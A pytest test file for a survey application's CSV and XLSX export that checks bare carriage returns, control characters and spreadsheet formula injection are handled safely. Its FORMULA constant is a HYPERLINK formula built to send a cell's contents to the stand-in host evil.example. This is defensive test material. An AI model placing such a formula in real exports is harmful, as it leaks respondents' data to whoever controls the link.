"""Answers that could break or attack an export: bare CRs, formulas, control characters."""

from __future__ import annotations

import csv
from datetime import UTC
from datetime import datetime

import pytest
from openpyxl import load_workbook

from surveyor.exports import ExportOptions
from surveyor.exports import export
from surveyor.services.interviews import fill_interview
from tests.exports.conftest import base_answers

WHEN = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)
FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"Cliquez ici")'


def add(store, library, form, **answers):
    """Finalize one more interview of the habitants form with ``answers`` changed."""
    values = base_answers()
    values.update(answers)
    result = fill_interview(
        library,
        form,
        values,
        finalize=True,
        interviewer="Fatima B.",
        device_id="collect:laptop-1",
        clock=lambda: WHEN,
    )
    assert result.ok, result.problems
    return result.interview


def read_csv(path):
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    return rows[0], [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]


def column(row, name):
    """The value of the column whose header ends with ``name``."""
    (value,) = [v for k, v in row.items() if k.split("-")[-1] == name]
    return value


def row_of(rows, interview):
    return next(r for r in rows if r["KEY"] == interview.instance_id)


@pytest.mark.parametrize("bom", [True, False])
def test_a_bare_carriage_return_stays_inside_its_field(filled, tmp_path, bom):
    store, library, form, interviews, _draft = filled
    odd = add(store, library, form, street="Rue\rdes Lilas", comments="un\rdeux\r\ntrois")
    out = tmp_path / "out"
    export(store, out, library=library, options=ExportOptions(excel_bom=bom, personal="keep"))
    path = out / "enquete_habitants.csv"
    header, rows = read_csv(path)  # strict zip: a split row would fail here
    assert len(rows) == len(interviews) + 1
    row = row_of(rows, odd)
    assert row["household-street"] == "Rue\rdes Lilas"
    assert row["closing-comments"] == "un\rdeux\r\ntrois"
    assert row["FormVersion"] == odd.form_version  # the columns after it did not shift
    data = path.read_bytes()
    assert data.split(b"\n", 1)[0].endswith(b"FormVersion")  # records still end with \n
    assert data.endswith(b"\n") and not data.endswith(b"\r\n")
    assert b'"Rue\rdes Lilas"' in data


def test_csv_for_excel_neutralises_formulas_but_keeps_numbers(filled, tmp_path):
    store, library, form, _interviews, _draft = filled
    odd = add(
        store,
        library,
        form,
        street=FORMULA,
        comments="@SUM(A1:A9)",
        contact_name="+33 6 12 34 56 78",
        interviewer_remarks="-3",
        interviewer="-2.5e3",
    )
    out = tmp_path / "out"
    export(store, out, library=library, options=ExportOptions(personal="keep"))
    _header, rows = read_csv(out / "enquete_habitants.csv")
    row = row_of(rows, odd)
    assert row["household-street"] == "'" + FORMULA
    assert row["closing-comments"] == "'@SUM(A1:A9)"
    assert column(row, "contact_name") == "'+33 6 12 34 56 78"
    assert column(row, "interviewer_remarks") == "-3"  # a number stays a number
    assert column(row, "interviewer") == "-2.5e3"


def test_csv_byte_for_byte_central_mode_keeps_values_raw(filled, tmp_path):
    store, library, form, _interviews, _draft = filled
    odd = add(store, library, form, street=FORMULA)
    out = tmp_path / "out"
    export(store, out, library=library, options=ExportOptions(excel_bom=False, personal="keep"))
    _header, rows = read_csv(out / "enquete_habitants.csv")
    assert row_of(rows, odd)["household-street"] == FORMULA


def test_xlsx_writes_answers_as_text_never_as_formulas(filled, tmp_path):
    store, library, form, _interviews, _draft = filled
    odd = add(store, library, form, street=FORMULA, comments="=1+1")
    files = export(
        store,
        tmp_path / "x",
        format="xlsx",
        library=library,
        options=ExportOptions(personal="keep"),
    )
    sheet = load_workbook(files[0])["enquete_habitants"]
    header = [c.value for c in sheet[1]]
    for cells in sheet.iter_rows(min_row=2):
        row = dict(zip(header, cells, strict=True))
        if row["KEY"].value == odd.instance_id:
            break
    assert row["household-street"].value == FORMULA
    assert row["household-street"].data_type == "s"
    assert row["closing-comments"].value == "=1+1"
    assert row["closing-comments"].data_type == "s"
    assert not [c for cells in sheet.iter_rows() for c in cells if c.data_type == "f"]


def test_xlsx_export_survives_control_characters_pasted_from_word(filled, tmp_path):
    store, library, form, interviews, _draft = filled
    odd = add(store, library, form, comments="ligne 1\x0bligne 2\x0cfin\x01\x1f.")
    files = export(
        store,
        tmp_path / "x",
        format="xlsx",
        library=library,
        options=ExportOptions(personal="keep"),
    )
    sheet = load_workbook(files[0])["enquete_habitants"]
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 1 + len(interviews) + 1
    row = dict(zip(rows[0], next(r for r in rows if odd.instance_id in r), strict=True))
    assert row["closing-comments"] == "ligne 1\nligne 2\nfin\ufffd\ufffd."
    # the CSV keeps the answer exactly
    out = tmp_path / "csv"
    export(store, out, library=library, options=ExportOptions(personal="keep"))
    _header, csv_rows = read_csv(out / "enquete_habitants.csv")
    assert row_of(csv_rows, odd)["closing-comments"] == "ligne 1\x0bligne 2\x0cfin\x01\x1f."
